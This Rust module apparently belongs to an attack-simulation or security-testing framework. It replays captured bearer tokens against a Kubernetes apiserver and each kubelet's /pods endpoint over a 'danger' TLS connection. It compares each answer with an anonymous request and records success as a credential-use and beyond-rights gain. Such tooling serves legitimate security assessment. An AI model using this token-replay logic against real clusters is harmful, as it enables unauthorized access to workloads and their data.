//! What was captured is used: at the apiserver, and at every kubelet.

use crate::notes::Notes;
use crate::speak::{Answer, Request, ask};
use crate::target::{Ask, Speaks, Target};
use ravelin_oracle::GainKind;
use ravelin_pki::Identity;
use ravelin_transport::TlsError;
use ravelin_transport::danger;
use std::net::SocketAddr;

/// Why there was no answer.
#[derive(Debug)]
pub enum Silence {
    /// The server refused the handshake or cut the session with this alert.
    Alert(String),
    /// Nothing came.
    Nothing,
}

/// Credentials that an attacker shows.
#[derive(Clone, Default)]
pub struct Shown<'a> {
    /// A bearer token.
    pub token: Option<&'a str>,
    /// A certificate.
    pub identity: Option<Identity>,
}

/// Makes one request of the attacker's own.
pub async fn request(
    notes: &Notes<'_>,
    to: SocketAddr,
    speaks: Speaks,
    (what, shown): (Request, Shown<'_>),
) -> Result<Answer, Silence> {
    let field = notes.field();
    let connection = field.connect(to).await.map_err(|_| Silence::Nothing)?;
    let mut stream = connection.stream;
    if speaks == Speaks::Https {
        let name = to.ip().to_string();
        let secured = danger::connect(field.host(), stream, &name, shown.identity).await;
        stream = secured.map_err(silence)?.stream;
    }
    let answer = ask(&mut stream, &what.with_token(shown.token)).await;
    answer.map_err(|error| error.map_or(Silence::Nothing, |error| silence(error.into())))
}

fn silence(error: TlsError) -> Silence {
    match error {
        TlsError::PeerRefusedUs { alert } => Silence::Alert(alert),
        _ => Silence::Nothing,
    }
}

/// A request for what only others may have.
pub fn for_ask(ask: &Ask, to: SocketAddr) -> Request {
    let mut request = Request::new(ask.method, &ask.path, &to.to_string());
    if let Some((content_type, content)) = &ask.body {
        request.headers.push(("content-type".to_owned(), (*content_type).to_owned()));
        request.body.clone_from(content);
    }
    request
}

/// Uses every captured token wherever a token is taken.
pub async fn spend(notes: &Notes<'_>, target: &Target) {
    for token in notes.tokens() {
        let at_apiserver = (target.apiserver, target.apiserver_ask.clone());
        let pods = Ask::get("/pods", "the node's pods");
        let at_kubelets = target.kubelets.iter().map(|kubelet| (*kubelet, pods.clone()));
        for (to, wanted) in std::iter::once(at_apiserver).chain(at_kubelets) {
            spend_one(notes, &token, to, &wanted).await;
        }
    }
}

async fn spend_one(notes: &Notes<'_>, token: &str, to: SocketAddr, wanted: &Ask) {
    let flow = notes.field().flow(to);
    let anonymous = request(notes, to, Speaks::Https, (for_ask(wanted, to), Shown::default())).await;
    let shown = Shown { token: Some(token), identity: None };
    let answer = request(notes, to, Speaks::Https, (for_ask(wanted, to), shown)).await;
    match (answer, anonymous) {
        (Ok(answer), Ok(anonymous)) if answer.granted() && !anonymous.granted() => {
            notes.learned(&flow, answer.body);
            notes.gained(&flow, GainKind::CredentialUsed, "used a captured token with success");
            let text = format!("read {} with a captured token", wanted.what);
            notes.gained(&flow, GainKind::BeyondRights, text);
        }
        (Ok(answer), _) => notes.tell(format!("{flow}: the captured token was answered {}", answer.status)),
        (Err(_), _) => notes.tell(format!("{flow}: the captured token was not answered")),
    }
}
